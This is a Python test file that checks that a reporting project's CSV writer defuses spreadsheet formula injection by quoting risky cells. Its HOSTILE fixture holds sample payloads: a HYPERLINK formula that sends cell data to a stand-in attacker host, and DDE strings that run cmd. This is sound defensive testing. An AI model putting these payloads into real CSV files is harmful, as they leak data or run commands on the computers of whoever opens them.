"""Outputs that never run (issue 24): a CSV cell a spreadsheet would run as a formula is written as text.

OWASP's rule for CSV injection: a text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return gets a `'` in front (Excel and LibreOffice show it as text and hide the quote); numbers the
project formats itself stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date

from hypothesis import given
from hypothesis import strategies as st

from streams.domain.counting.aggregation import Aggregation
from streams.domain.organisation.departments import department_slug
from streams.domain.report.inputs import DisplayNames
from streams.domain.report.model import build_status_report
from streams.generators.komhen_export import write_export
from streams.generators.spreadsheet import FORMULA_STARTS, CsvWriter, Number
from streams.generators.status.csv import csv_files
from tests.unit.generators.test_komhen_export import aggregation, event
from tests.unit.generators.test_status_report import from_file, request

__all__ = ["from_file"]  # the status report's fixture, shared

HOSTILE = {
    "borgerservice": '=HYPERLINK("http://angriber.example/?d="&A1;"Klik her")',
    "boern-og-unge": "+cmd|' /C calc'!A0",
    "teknik-og-miljoe": "@SUM(1+1)*cmd|' /C calc'!A0",
    "kultur-og-fritid": "-2+3",
}


def rows(data: bytes, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding)), delimiter=";"))


def runs(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


@given(st.lists(st.text(max_size=30), max_size=6))
def test_any_text_cell_is_written_so_a_spreadsheet_shows_it_and_the_text_is_kept(cells: list[str]) -> None:
    out = io.StringIO(newline="")
    CsvWriter(out).writerow(cells)
    (written,) = list(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=";")) or [[]]
    written = written if cells else []
    assert not any(runs(cell) for cell in written)
    assert [cell[1:] if runs(original) else cell for cell, original in zip(written, cells, strict=True)] == cells


def test_a_number_the_project_wrote_stays_a_number() -> None:
    out = io.StringIO(newline="")
    CsvWriter(out).writerow([Number("-0,1"), "-0,1", Number("12")])
    assert out.getvalue() == "-0,1;'-0,1;12\r\n"


def test_the_status_reports_tables_never_run_a_unit_name_and_keep_their_numbers(from_file: Aggregation) -> None:
    names = DisplayNames("Ishøj Kommune", HOSTILE)
    report = build_status_report([from_file], request(names=names))
    files = csv_files(report)
    for name, data in files.items():
        for row in rows(data, "utf-8-sig"):
            assert not [cell for cell in row if runs(cell) and not cell.lstrip("-").replace(",", "").isdigit()], name
    units = rows(files["06-enheder.csv"], "utf-8-sig")
    assert sorted(row[0] for row in units[1:] if row[0] in {"'" + n for n in HOSTILE.values()}) == sorted(
        "'" + n for n in HOSTILE.values()
    )
    assert rows(files["01-noegletal.csv"], "utf-8-sig")[9][4] == "-0,1"  # a negative change stays a number
    findings = rows(files["12-fund.csv"], "utf-8-sig")
    assert any(cell.startswith("'=HYPERLINK(") for row in findings for cell in row)


def test_the_komhen_export_never_runs_a_unit_name() -> None:
    day = date(2026, 12, 1)
    named = [
        event(i, "2026-12-01T10:00:00+01:00", department=department_slug(name), department_name=name)
        for i, name in enumerate(HOSTILE.values())
    ]
    agg = aggregation(*named)
    out = io.BytesIO()
    write_export([agg], day, day, out, encoding="utf-8")
    written = rows(out.getvalue(), "utf-8")
    assert sorted(row[1] for row in written[1:]) == sorted("'" + n for n in HOSTILE.values())
